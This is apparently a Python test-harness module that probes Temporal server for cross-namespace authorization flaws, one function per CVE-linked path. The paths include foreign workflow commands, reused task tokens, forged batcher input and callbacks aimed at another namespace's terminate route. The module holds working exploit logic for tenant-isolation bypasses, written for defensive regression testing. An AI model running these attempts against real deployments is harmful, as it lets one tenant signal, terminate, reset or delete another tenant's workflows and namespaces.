"""What a tenant of namespace A can try against namespace B, one function per path: each sends the real
requests and waits until the server has done whatever it will do with them (the command's fate in A's
history, the batch finished, the callback tried once), then returns what it sent and what came back.

Whether B changed is read by the caller (harness.security.scene: B before and after). The suites and the
state machine (harness.security.machine) use the same attempts, so a case the machine shrinks to is a
sequence of these calls."""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from temporalio.api.batch.v1 import (
    BatchOperationCancellation,
    BatchOperationDeletion,
    BatchOperationReset,
    BatchOperationSignal,
    BatchOperationTermination,
)
from temporalio.api.command.v1 import Command, CompleteWorkflowExecutionCommandAttributes
from temporalio.api.common.v1 import Callback, Payload, Payloads, WorkflowExecution, WorkflowType
from temporalio.api.enums.v1 import (
    BatchOperationState,
    CallbackState,
    CommandType,
    EventType,
    ResetType,
    UpdateWorkflowExecutionLifecycleStage,
    WorkflowExecutionStatus,
)
from temporalio.api.errordetails.v1 import MultiOperationExecutionFailure
from temporalio.api.operatorservice.v1 import DeleteNamespaceRequest
from temporalio.api.taskqueue.v1 import TaskQueue
from temporalio.api.update.v1 import Input, Meta, Request, WaitPolicy
from temporalio.api.workflowservice.v1 import (
    DescribeBatchOperationRequest,
    DescribeNamespaceRequest,
    DescribeWorkflowExecutionRequest,
    ExecuteMultiOperationRequest,
    GetClusterInfoRequest,
    GetWorkflowExecutionHistoryRequest,
    PollWorkflowTaskQueueRequest,
    RespondWorkflowTaskCompletedRequest,
    StartBatchOperationRequest,
    StartWorkflowExecutionRequest,
    UpdateWorkflowExecutionRequest,
)
from temporalio.service import RPCError, RPCStatusCode

from harness.cases.evidence import Evidence
from harness.cases.raw_worker import cancel_external, respond, signal_external, start_child
from harness.probes.grpc import Observation
from harness.security.checks import REFUSED, hold
from harness.security.scene import Scene
from harness.tokens.mint import MintedToken
from harness.types import Outcome
from harness.wait import until_async

E = EventType
# Callbacks go to a fresh host under one never-resolving domain, each attempt its own: history's outbound
# queue keeps one circuit breaker per (namespace, scheme://host), and a few failed deliveries to one host
# open it, after which a later callback to that host is not attempted at all (seen on 1.32.2 after about 20
# callbacks in one tenancy run). The servers allow the domain by a wildcard pattern (every release with an
# allowlist, 1.25+, matches '*' as any characters within the host:port); any other host stays refused.
CALLBACK_DOMAIN = "sec-callbacks.invalid"
CALLBACK_PORT = 80
ALLOWED_CALLBACK_PATTERN = f"*.{CALLBACK_DOMAIN}:{CALLBACK_PORT}"
CALLBACK_ALLOWLIST = [{"Pattern": ALLOWED_CALLBACK_PATTERN, "AllowInsecure": True}]


def callback_host() -> str:
    """A host nobody else's callback uses, under the allowed domain; it never resolves."""
    return f"cb-{uuid.uuid4().hex[:12]}.{CALLBACK_DOMAIN}:{CALLBACK_PORT}"


NO_CALLBACKS = "none registered: this release has no completion callbacks"
NO_BATCHER_INPUT = (
    "not run: this release's batcher takes no such input (its workflow task failed, or the start was refused)"
)


@dataclass
class Attempted:
    """What one attempt sent and what came back. `carried_out`: a request naming B that the server ran
    (a violation even where B itself did not change, e.g. a start validated under B's name)."""

    api: str
    answer: Observation | None = None
    notes: dict[str, Any] = field(default_factory=dict)
    carried_out: list[str] = field(default_factory=list)

    def describe(self) -> dict[str, Any]:
        answer = f"{self.answer.status} {self.answer.message[:160]}" if self.answer is not None else "-"
        return {"api": self.api, "answer": answer, **self.notes}

    def evidence(self, evidence: Evidence, scene: Scene, tenant: MintedToken) -> None:
        """The attempt as a test's evidence: the call, A -> B, the tenant's claims, what came back."""
        evidence.api, evidence.namespace, evidence.claims = (
            self.api,
            f"{scene.a} -> {scene.b}",
            tenant.evidence(),
        )
        evidence.extra.update(self.describe())


def verdict(
    evidence: Evidence,
    scene: Scene,
    path: str,
    done: Attempted,
    changed: list[str],
    tenant: MintedToken,
    what: str,
) -> None:
    """The path's verdict from one attempt: what it carried out in B, and what changed there."""
    done.evidence(evidence, scene, tenant)
    if done.answer is not None:
        evidence.status, evidence.message = done.answer.status, done.answer.message[:300]
    hold(evidence, path, [*done.carried_out, *changed], 1, what)


def _ok(answer: Observation) -> bool:
    return answer.outcome is Outcome.ALLOWED and answer.status == "OK"


# -- cross-namespace workflow commands (CVE-2025-14987) -------------------------------------------------

COMMANDS: dict[str, Callable[[str, str], Command]] = {
    "signal": lambda b, victim: signal_external(b, victim, "sec-probe", "from-a"),
    "child": lambda b, victim: start_child(b, f"sec-child-{uuid.uuid4().hex[:8]}", "SecChild", "sec-child"),
    "cancel": lambda b, victim: cancel_external(b, victim),
}
_SETTLED = {
    E.EVENT_TYPE_EXTERNAL_WORKFLOW_EXECUTION_SIGNALED, E.EVENT_TYPE_SIGNAL_EXTERNAL_WORKFLOW_EXECUTION_FAILED,
    E.EVENT_TYPE_CHILD_WORKFLOW_EXECUTION_STARTED, E.EVENT_TYPE_START_CHILD_WORKFLOW_EXECUTION_FAILED,
    E.EVENT_TYPE_EXTERNAL_WORKFLOW_EXECUTION_CANCEL_REQUESTED,
    E.EVENT_TYPE_REQUEST_CANCEL_EXTERNAL_WORKFLOW_EXECUTION_FAILED, E.EVENT_TYPE_WORKFLOW_TASK_FAILED,
}  # fmt: skip


async def workflow_command(scene: Scene, kind: str, victim: str, tenant: MintedToken) -> Attempted:
    """The tenant's raw worker answers its own workflow task in A with a command aimed at B."""
    queue = f"sec-xns-{uuid.uuid4().hex[:8]}"
    source = await scene.start(scene.a, "SecSource", queue, scene.metadata(tenant))
    polled = await scene.client.workflow_service.poll_workflow_task_queue(
        PollWorkflowTaskQueueRequest(namespace=scene.a, task_queue=TaskQueue(name=queue)),
        metadata=scene.metadata(tenant),
        retry=False,
    )
    command = COMMANDS[kind](scene.b, victim)
    answer = await respond(scene.prober, scene.a, polled.task_token, [command], scene.metadata(tenant))
    history = await _command_fate(scene, source) if answer.outcome is Outcome.ALLOWED else []
    await scene.terminate(scene.a, [source])
    return Attempted(f"RespondWorkflowTaskCompleted [{kind} into B]", answer, {"source_history": history})


async def _command_fate(scene: Scene, workflow_id: str) -> list[str]:
    async def history() -> list[str] | None:
        got = await scene.client.workflow_service.get_workflow_execution_history(
            GetWorkflowExecutionHistoryRequest(
                namespace=scene.a, execution=WorkflowExecution(workflow_id=workflow_id)
            ),
            metadata=scene.admin,
            retry=False,
        )
        types = {e.event_type for e in got.history.events}
        return [E.Name(e.event_type) for e in got.history.events] if types & _SETTLED else None

    found: list[str] = await until_async(history, deadline=60, interval=0.1, what="the command's fate in A")
    return found


# -- task tokens of B (CVE-2023-3485) -----------------------------------------------------------------


async def task_of_b(scene: Scene) -> bytes:
    """B's workflow task, started by an admin's poll: its token is what leaks to the tenant. Read B after
    this (the poll itself changes B's history)."""
    queue = f"sec-task-{uuid.uuid4().hex[:8]}"
    victim = await scene.start(scene.b, "SecTaskVictim", queue, scene.admin)
    scene.victims.append(victim)
    polled = await scene.client.workflow_service.poll_workflow_task_queue(
        PollWorkflowTaskQueueRequest(namespace=scene.b, task_queue=TaskQueue(name=queue)),
        metadata=scene.admin,
        retry=False,
    )
    return polled.task_token


async def complete_task_of_b(scene: Scene, named: str, task_token: bytes, tenant: MintedToken) -> Attempted:
    """The tenant completes B's task with its token, the request naming A, nothing, or B."""
    namespace = {"A": scene.a, "empty": "", "B": scene.b}[named]
    answer = await respond(scene.prober, namespace, task_token, [], scene.metadata(tenant))
    return Attempted(
        "RespondWorkflowTaskCompleted [B's task token]", answer, {"request_names": repr(namespace)}
    )


# -- ExecuteMultiOperation (CVE-2025-14986) ---------------------------------------------------------------


async def multi_operation(scene: Scene, tenant: MintedToken, workflow_id: str) -> Attempted:
    """An Update-with-Start in A whose inner start names B. A release that validates the inner request
    under B's name starts the workflow in A: the request naming B was carried out."""
    start = StartWorkflowExecutionRequest(
        namespace=scene.b, workflow_id=workflow_id, workflow_type=WorkflowType(name="SecMulti"),
        task_queue=TaskQueue(name="sec-multi"), request_id=str(uuid.uuid4()),
    )  # fmt: skip
    update = UpdateWorkflowExecutionRequest(
        namespace=scene.a,
        workflow_execution=WorkflowExecution(workflow_id=workflow_id),
        request=Request(meta=Meta(update_id="sec-update"), input=Input(name="sec-update")),
        wait_policy=WaitPolicy(
            lifecycle_stage=UpdateWorkflowExecutionLifecycleStage.UPDATE_WORKFLOW_EXECUTION_LIFECYCLE_STAGE_ACCEPTED
        ),
    )
    request = ExecuteMultiOperationRequest(
        namespace=scene.a,
        operations=[
            ExecuteMultiOperationRequest.Operation(start_workflow=start),
            ExecuteMultiOperationRequest.Operation(update_workflow=update),
        ],
    )
    operations: list[str] = []

    async def call() -> Any:
        try:
            return await scene.client.workflow_service.execute_multi_operation(
                request, metadata=scene.metadata(tenant), retry=False, timeout=timedelta(seconds=5)
            )
        except RPCError as err:
            operations.extend(_operation_statuses(err))
            raise

    answer = await scene.prober.observe(call())
    notes = {"workflow_id": workflow_id, "operations": operations}
    attempted = Attempted("ExecuteMultiOperation [start naming B, update]", answer, notes)
    if answer.outcome is not Outcome.ABSENT and await exists(scene, scene.a, workflow_id):
        attempted.carried_out.append(
            f"the inner start naming {scene.b!r} was carried out: {workflow_id} started in {scene.a!r}"
        )
        await scene.terminate(scene.a, [workflow_id])
    return attempted


def _operation_statuses(err: RPCError) -> list[str]:
    """Each operation's own status in a MultiOperationExecution failure (its details), as `CODE message`."""
    found: list[str] = []
    status = err.grpc_status
    for detail in status.details if status is not None else ():
        failure = MultiOperationExecutionFailure()
        if detail.Unpack(failure):
            found += [f"{RPCStatusCode(s.code).name} {s.message}" for s in failure.statuses]
    return found


async def exists(scene: Scene, namespace: str, workflow_id: str) -> bool:
    try:
        await scene.client.workflow_service.describe_workflow_execution(
            DescribeWorkflowExecutionRequest(
                namespace=namespace, execution=WorkflowExecution(workflow_id=workflow_id)
            ),
            metadata=scene.admin,
            retry=False,
        )
    except RPCError as err:
        if err.status == RPCStatusCode.NOT_FOUND:
            return False
        raise
    return True


# -- batch operations ----------------------------------------------------------------------------------------

BATCH_KINDS: dict[str, Callable[[], dict[str, Any]]] = {
    "signal": lambda: {"signal_operation": BatchOperationSignal(signal="sec-batch", identity="tenant")},
    "cancel": lambda: {"cancellation_operation": BatchOperationCancellation(identity="tenant")},
    "terminate": lambda: {"termination_operation": BatchOperationTermination(identity="tenant")},
    "delete": lambda: {"deletion_operation": BatchOperationDeletion(identity="tenant")},
    "reset": lambda: {
        "reset_operation": BatchOperationReset(
            identity="tenant", reset_type=ResetType.RESET_TYPE_FIRST_WORKFLOW_TASK
        )
    },  # FIRST_WORKFLOW_TASK
}


async def batch(scene: Scene, kind: str, by: str, victim: str, tenant: MintedToken) -> Attempted:
    """A batch in A over B's workflow id (listed, or in a query); A has a workflow of the same id."""
    queue = f"sec-batch-{uuid.uuid4().hex[:8]}"
    twin = await scene.start(scene.a, "SecTwin", queue, scene.metadata(tenant), workflow_id=victim)
    await scene.complete_first_task(scene.a, queue, scene.metadata(tenant))
    job = f"sec-batch-{kind}-{uuid.uuid4().hex[:6]}"
    selection: dict[str, Any] = (
        {"executions": [WorkflowExecution(workflow_id=victim)]} if by == "list"
        else {"visibility_query": f"WorkflowId = '{victim}'"}
    )  # fmt: skip
    request = StartBatchOperationRequest(
        namespace=scene.a, job_id=job, reason="sec", **selection, **BATCH_KINDS[kind]()
    )
    answer = await scene.prober.observe(
        scene.client.workflow_service.start_batch_operation(
            request, metadata=scene.metadata(tenant), retry=False
        )
    )
    if _ok(answer):
        await _batch_done(scene, job)
    await scene.terminate(scene.a, [twin])
    return Attempted(f"StartBatchOperation [{kind}, by {by}, naming B's workflow id]", answer)


async def _batch_done(scene: Scene, job: str) -> None:
    async def done() -> bool:
        described = await scene.client.workflow_service.describe_batch_operation(
            DescribeBatchOperationRequest(namespace=scene.a, job_id=job), metadata=scene.admin, retry=True
        )
        return described.state != BatchOperationState.BATCH_OPERATION_STATE_RUNNING

    await until_async(done, deadline=60, interval=0.2, what=f"batch {job} to finish")


# -- the batcher's own workflow with a forged inner namespace (CVE-2026-5199) ---------------------------------

BATCHER_WORKFLOW = "temporal-sys-batch-workflow-protobuf"
BATCHER_QUEUE = "temporal-sys-per-ns-tq"
FORGED: dict[str, tuple[str, dict[str, Any]]] = {
    "signal": ("BATCH_OPERATION_TYPE_SIGNAL", {"signalOperation": {"signal": "sec-forged", "identity": "tenant"}}),
    "delete": ("BATCH_OPERATION_TYPE_DELETE", {"deletionOperation": {"identity": "tenant"}}),
    "reset": ("BATCH_OPERATION_TYPE_RESET", {"resetOperation": {"identity": "tenant", "resetType": "RESET_TYPE_FIRST_WORKFLOW_TASK"}}),
}  # fmt: skip


async def forged_batch(scene: Scene, kind: str, victim: str, tenant: MintedToken) -> Attempted:
    """The batcher's own workflow, started in A by its tenant with an input whose inner request names B:
    the per-namespace batcher acts through internal-frontend as system admin."""
    batch_type, operation = FORGED[kind]
    document = {
        "namespaceId": await scene.namespace_id(scene.a),
        "batchType": batch_type,
        "request": {"namespace": scene.b, "jobId": f"sec-forged-{uuid.uuid4().hex[:6]}", "reason": "sec",
                    "executions": [{"workflowId": victim}], **operation},
    }  # fmt: skip
    payload = Payload(
        metadata={
            "encoding": b"json/protobuf",
            "messageType": b"temporal.server.api.batch.v1.BatchOperationInput",
        },
        data=json.dumps(document).encode(),
    )
    workflow_id = f"sec-forged-{kind}-{uuid.uuid4().hex[:6]}"
    answer = await scene.prober.observe(
        scene.client.workflow_service.start_workflow_execution(
            StartWorkflowExecutionRequest(
                namespace=scene.a, workflow_id=workflow_id, workflow_type=WorkflowType(name=BATCHER_WORKFLOW),
                task_queue=TaskQueue(name=BATCHER_QUEUE), input=Payloads(payloads=[payload]),
                request_id=str(uuid.uuid4()),
            ),
            metadata=scene.metadata(tenant),
            retry=False,
        )
    )  # fmt: skip
    fate = await _batcher_ran(scene, workflow_id) if _ok(answer) else "start refused"
    await scene.terminate(scene.a, [workflow_id])
    return Attempted(
        f"StartWorkflowExecution [{BATCHER_WORKFLOW}, {kind} naming B]", answer, {"batcher": fate}
    )


async def _batcher_ran(scene: Scene, workflow_id: str) -> str:
    """Until the batcher's workflow in A closed, or its activity ran and failed once (a refused input is
    retried; B's state after that first attempt is what counts)."""

    async def ran() -> str | None:
        described = await scene.client.workflow_service.describe_workflow_execution(
            DescribeWorkflowExecutionRequest(
                namespace=scene.a, execution=WorkflowExecution(workflow_id=workflow_id)
            ),
            metadata=scene.admin,
            retry=False,
        )
        status = described.workflow_execution_info.status
        if status != WorkflowExecutionStatus.WORKFLOW_EXECUTION_STATUS_RUNNING:
            return WorkflowExecutionStatus.Name(status)
        failed = [a for a in described.pending_activities if a.HasField("last_failure")]
        if failed:
            return f"activity failed: {failed[0].last_failure.message[:200]}"
        if described.pending_workflow_task.attempt > 1:
            # The per-namespace worker failed its workflow task: it has no such batcher workflow (the proto
            # batch input arrived with 1.29).
            return NO_BATCHER_INPUT
        return None

    found: str = await until_async(ran, deadline=90, interval=0.25, what="the batcher's workflow to run")
    return found


# -- calls by B's id -----------------------------------------------------------------------------------------


async def by_id(scene: Scene, tenant: MintedToken) -> Attempted:
    """DescribeNamespace and DeleteNamespace by B's id (authorized against ""). The delete names B and
    an id, so even an allowed one fails after authorization."""
    b_id = await scene.namespace_id(scene.b)
    described = await scene.prober.observe(
        scene.client.workflow_service.describe_namespace(
            DescribeNamespaceRequest(id=b_id), metadata=scene.metadata(tenant), retry=False
        )
    )
    answers = [("DescribeNamespace(id of B)", described)]
    notes = {"delete": "not probed: a cluster the harness does not own (harness/safety.py never sends it)"}
    if scene.server.owned:
        deleted = await scene.prober.observe(
            scene.client.operator_service.delete_namespace(
                DeleteNamespaceRequest(namespace=scene.b, namespace_id=b_id),
                metadata=scene.metadata(tenant),
                retry=False,
            )
        )
        answers.append(("DeleteNamespace(id of B)", deleted))
        notes["delete"] = f"{deleted.status} {deleted.message}"
    attempted = Attempted("DescribeNamespace / DeleteNamespace by B's id", described, notes)
    for api, answer in answers:
        if answer.outcome not in REFUSED:
            attempted.carried_out.append(
                f"{api}: {answer.outcome.value} {answer.status} {answer.message[:120]!r}"
            )
    return attempted


# -- completion callbacks (CVE-2026-87858) ---------------------------------------------------------------------


def terminate_url(scene: Scene, host: str, victim: str) -> str:
    return f"http://{host}/api/v1/namespaces/{scene.b}/workflows/{victim}/terminate"


async def callback(scene: Scene, victim: str, tenant: MintedToken, *, host: str | None = None,
                   source: str | None = None, request_id: str | None = None,
                   url: str | None = None, headers: dict[str, str] | None = None) -> Attempted:  # fmt: skip
    """A workflow of A whose completion callback aims at B's terminate route (on `host`, by default a fresh
    host of the allowed domain; optionally with a `source` header), completed with a body that is a valid
    terminate request."""
    header = dict(headers or {})
    if source == "cluster-id":  # 1.25-1.29 route only a source equal to the cluster's id (admin-readable)
        info = await scene.client.workflow_service.get_cluster_info(
            GetClusterInfoRequest(), metadata=scene.admin, retry=False
        )
        header["source"] = info.cluster_id
    elif source is not None:
        header["source"] = source
    target_url = url or terminate_url(scene, host or callback_host(), victim)
    queue = f"sec-cb-{uuid.uuid4().hex[:8]}"
    workflow_id = f"sec-callback-{uuid.uuid4().hex[:8]}"
    answer = await scene.prober.observe(
        scene.client.workflow_service.start_workflow_execution(
            StartWorkflowExecutionRequest(
                namespace=scene.a, workflow_id=workflow_id, workflow_type=WorkflowType(name="SecCallback"),
                task_queue=TaskQueue(name=queue), request_id=request_id or str(uuid.uuid4()),
                completion_callbacks=[Callback(nexus=Callback.Nexus(url=target_url, header=header))],
            ),
            metadata=scene.metadata(tenant),
            retry=False,
        )
    )  # fmt: skip
    fate = ""
    if _ok(answer):
        await _complete_with(
            scene, queue, scene.metadata(tenant), {"reason": "terminated through a callback"}
        )
        fate = await _callback_attempted(scene, workflow_id)
    notes = {"url": target_url, "header": sorted(header), "callback": fate}
    return Attempted("StartWorkflowExecution [completion callback]", answer, notes)


async def _complete_with(scene: Scene, queue: str, metadata: dict[str, str], result: Any) -> None:
    polled = await scene.client.workflow_service.poll_workflow_task_queue(
        PollWorkflowTaskQueueRequest(namespace=scene.a, task_queue=TaskQueue(name=queue)),
        metadata=metadata,
        retry=False,
    )
    complete = Command(
        command_type=CommandType.COMMAND_TYPE_COMPLETE_WORKFLOW_EXECUTION,
        complete_workflow_execution_command_attributes=CompleteWorkflowExecutionCommandAttributes(
            result=Payloads(
                payloads=[Payload(metadata={"encoding": b"json/plain"}, data=json.dumps(result).encode())]
            )
        ),
    )
    await scene.client.workflow_service.respond_workflow_task_completed(
        RespondWorkflowTaskCompletedRequest(
            namespace=scene.a, task_token=polled.task_token, commands=[complete]
        ),
        metadata=metadata,
        retry=False,
    )


async def _callback_attempted(scene: Scene, workflow_id: str) -> str:
    async def tried() -> str | None:
        described = await scene.client.workflow_service.describe_workflow_execution(
            DescribeWorkflowExecutionRequest(
                namespace=scene.a, execution=WorkflowExecution(workflow_id=workflow_id)
            ),
            metadata=scene.admin,
            retry=False,
        )
        for info in described.callbacks:
            if info.state in (
                CallbackState.CALLBACK_STATE_SUCCEEDED, CallbackState.CALLBACK_STATE_FAILED,
                CallbackState.CALLBACK_STATE_BACKING_OFF, CallbackState.CALLBACK_STATE_BLOCKED,
            ) or info.attempt > 0:  # fmt: skip
                return f"{CallbackState.Name(info.state)} {info.last_attempt_failure.message[:160]}"
        closed = (
            described.workflow_execution_info.status
            != WorkflowExecutionStatus.WORKFLOW_EXECUTION_STATUS_RUNNING
        )
        if closed and not described.callbacks:
            return NO_CALLBACKS  # a release without completion callbacks ignores the field
        return None

    found: str = await until_async(tried, deadline=60, interval=0.2, what="the callback's first attempt")
    return found
